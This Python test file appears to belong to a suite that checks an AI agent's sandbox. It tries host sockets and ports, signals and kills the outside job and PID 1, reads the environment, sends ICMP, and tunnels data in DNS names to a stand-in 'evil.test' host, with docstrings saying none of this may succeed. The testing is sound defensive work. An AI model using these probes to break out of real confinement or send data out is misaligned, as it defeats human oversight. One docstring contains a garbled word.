"""Other processes, and sockets that they listen at."""

import ctypes
import errno
import os
import signal
import socket
import subprocess
import sys

from attempts import attempt, attempt_as, in_child, libc, name_of, outcome_of, planted


def connect_to(address, family=socket.AF_UNIX, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as client:
        client.settimeout(60)
        try:
            client.connect(address)
            return "ok"
        except OSError as error:
            return name_of(error.errno or errno.ETIMEDOUT)


@attempt
def processes():
    names = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/comm") as file:
                names.append(file.read().strip())
        except OSError:
            pass
    return sorted(set(names))


@attempt
def signal_host():
    try:
        os.kill(planted["hostProcess"], 0)
        return "ok"
    except OSError as error:
        return name_of(error.errno)


@attempt
def host_socket():
    return connect_to(planted["hostSocket"])


@attempt
def workspace_socket():
    return connect_to(planted["workspaceSocket"])


@attempt
def abstract_socket():
    return connect_to("\0" + planted["abstractSocket"])


@attempt
def host_port():
    return connect_to(("127.0.0.1", planted["hostPort"]), socket.AF_INET)


@attempt
def environment():
    return dict(os.environ)


def signal_own_group(number):
    """The group of the agent is that of the job outside."""
    if planted["outside"]:
        os.setpgid(0, 0)
    os.kill(0, number)
    return "ok"


@attempt
def kill_job():
    return in_child(lambda: signal_own_group(signal.SIGKILL))


@attempt
def signal_job():
    return in_child(lambda: signal_own_group(signal.SIGUSR1))


PIDFD_OPEN, PIDFD_SEND_SIGNAL = 434, 424  # the same on every machine
TO_PROCESS_GROUP = 4


def signal_group_by_descriptor(number):
    if planted["outside"]:
        os.setpgid(0, 0)
    descriptor = libc.syscall(PIDFD_OPEN, os.getpid(), 0)
    if libc.syscall(PIDFD_SEND_SIGNAL, descriptor, number, None, TO_PROCESS_GROUP) < 0:
        return name_of(ctypes.get_errno())
    return "ok"


@attempt
def kill_job_by_descriptor():
    """The same by a process descriptor, which Linux 6.9 made able to."""
    return in_child(lambda: signal_group_by_descriptor(signal.SIGKILL))


def first_process(number):
    """Signals what every process of the sandbox descends from; it must go on."""
    if planted["outside"]:
        child = subprocess.Popen([sys.executable, "-c", "input()"], stdin=subprocess.PIPE)
        os.kill(child.pid, number)
        state = os.waitid(os.P_PID, child.pid, os.WEXITED | os.WSTOPPED)
        child.kill()
        child.communicate()
        return signal.Signals(state.si_status).name
    os.kill(1, number)
    with open("/proc/1/stat") as file:
        return "goes on" if file.read().rsplit(")", 1)[1].split()[0] in "SR" else "stopped"


attempt_as("kill_first_process", lambda: first_process(signal.SIGKILL))
attempt_as("stop_first_process", lambda: first_process(signal.SIGSTOP))


def priority_of_group():
    """Slows down the job outside, firma with it."""
    if planted["outside"]:
        os.setpgid(0, 0)
    os.setpriority(os.PRIO_PGRP, 0, 1)
    return "ok"


@attempt
def slow_down_job():
    return in_child(priority_of_group)


@attempt
def first_process_status():
    """Its memory may be written by its own user, so it must not be able to do any more."""
    with open("/proc/1/status") as file:
        status = dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)
    bound = int(status["CapEff"], 16) == 0 and int(status["CapBnd"], 16) == 0
    return "confined" if bound and status["Seccomp"] == "2" else "free"


@attempt
def host_port_ipv6():
    return connect_to(("::1", planted["hostPort"]), socket.AF_INET6)


@attempt
def host_address():
    return connect_to((planted["hostAddress"], planted["hostPort"]), socket.AF_INET)


def datagram(address, family):
    with socket.socket(family, socket.SOCK_DGRAM) as client:
        client.settimeout(60)
        try:
            client.connect(address)
            client.send(b"out")
            return client.recv(16).decode()
        except OSError as error:
            return name_of(error.errno or errno.ETIMEDOUT)


@attempt
def host_datagram_port():
    return datagram(("127.0.0.1", planted["hostDatagramPort"]), socket.AF_INET)


@attempt
def host_datagram_address():
    return datagram((planted["hostAddress"], planted["hostDatagramPort"]), socket.AF_INET)


@attempt
def echo_request():
    """ICMP without a raw socket, which some machines let everybody have."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as client:
        client.sendto(b"\x08\0\0\0\0\0\0\1", (planted["hostAddress"], 0))
    return "sent"


@attempt
def tunnel_through_names():
    """Data in names, to a server of the agent's own: no query may reach anybody."""
    query = b"\0\x07\x01\0\0\1\0\0\0\0\0\0" + b"\x3f" + b"s" * 63 + b"\4evil\4test\0\0\x10\0\1"
    port = planted["hostDatagramPort"] if planted["outside"] else 53
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(60)
        client.sendto(query, (planted["hostAddress"], port))
        answer = client.recv(512)
        return answer.decode() if answer == b"let in" else f"answers {answer[7]}"
